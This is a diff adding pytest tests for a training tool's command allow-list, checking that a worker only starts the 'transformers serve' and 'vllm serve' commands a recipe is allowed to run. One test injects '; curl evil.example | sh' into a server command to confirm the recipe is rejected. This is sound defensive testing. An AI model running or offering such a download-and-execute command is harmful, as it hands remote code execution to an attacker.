@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import copy
+import json
 import os
+import shlex
 from pathlib import Path
 
 import pytest
@@ -131,3 +133,69 @@ def test_a_flow_run_plans_once_and_a_served_recipe_is_checked_then_resolved(
     served = plan_once(_recipe(tmp_path), reach)
     assert type(served.recipe) is ResolvedRecipe and served.recipe.infra.parallel_stages == 1
     assert [s.fingerprint for s in served.stages] == [s.fingerprint for s in handed.stages]
+
+
+SERVE = "transformers serve --host {host} --port {port}"
+JUDGE = ["vllm", "serve", "{model}", "--port", "{port}"]
+
+
+def _with_commands(tmp_path: Path) -> Recipe:
+    data = copy.deepcopy(TINY)
+    data["run"]["workspace"] = str(tmp_path / "ws")
+    judge = {"command": JUDGE, "model": "judge-m", "rubric": "Rate: {completion}"}
+    data["grpo"] = {
+        "data": {"synthetic": {}},
+        "rewards": [{"fn": "posttrain.rewards.match:exact_match"}, {"judge": judge}],
+        "rollout": {"engine": "server", "server": {"command": SERVE}, "samples_per_prompt": 2},
+    }
+    return Recipe.model_validate(data)
+
+
+def test_every_server_command_of_a_recipe_is_found_by_field(tmp_path: Path) -> None:
+    from posttrain.config.served_access import served_commands
+
+    assert served_commands(_with_commands(tmp_path)) == {
+        "grpo.rollout.server.command": SERVE,
+        "grpo.rewards.1.judge.command": "vllm serve '{model}' --port '{port}'",
+    }
+    assert served_commands(_recipe(tmp_path)) == {}
+
+
+def test_a_served_run_starts_only_the_commands_its_worker_allows(tmp_path: Path) -> None:
+    from posttrain.config.served_access import (
+        COMMANDS_ENV,
+        ServedReach,
+        served_commands,
+        with_commands,
+        worker_commands,
+    )
+
+    recipe = _with_commands(tmp_path)
+    roots = [(tmp_path / "ws").resolve()]
+    with pytest.raises(RecipeError) as info:
+        ServedReach(roots, []).check(recipe)  # a worker that allows no command
+    judge = "vllm serve '{model}' --port '{port}'"  # the argv as one text (shlex.join)
+    assert info.value.errors == [
+        f"{where}: `{cmd}` is not a command this worker lets served runs start: serve a recipe "
+        f"with it, start `posttrain serve --allow-command {shlex.quote(cmd)}`, or add it to "
+        "POSTTRAIN_ALLOWED_COMMANDS"
+        for where, cmd in (
+            ("grpo.rollout.server.command", SERVE),
+            ("grpo.rewards.1.judge.command", judge),
+        )
+    ]
+    # The same argv written otherwise is the same command.
+    spaced = {
+        COMMANDS_ENV: json.dumps([SERVE.replace(" ", "  "), "vllm serve {model} --port {port}"])
+    }
+    ServedReach(roots, [], worker_commands(spaced)).check(recipe)
+    # `posttrain serve RECIPE` allows the commands its recipes start, exactly as written.
+    env = {COMMANDS_ENV: with_commands(None, served_commands(recipe).values())}
+    ServedReach.of_worker(env | {"POSTTRAIN_ALLOWED_PATHS": str(roots[0])}).check(recipe)
+    edited = _with_commands(tmp_path).model_dump(mode="json")
+    edited["grpo"]["rollout"]["server"]["command"] = SERVE + "; curl evil.example | sh"
+    with pytest.raises(RecipeError, match=r"grpo.rollout.server.command: `transformers serve"):
+        ServedReach(roots, [], worker_commands(env)).check(Recipe.model_validate(edited))
+    # What the worker's variable holds: a JSON list; anything else allows nothing.
+    assert worker_commands({COMMANDS_ENV: "transformers serve"}) == []
+    assert with_commands(json.dumps(["a"]), ["b", "a", "b"]) == json.dumps(["a", "b"])
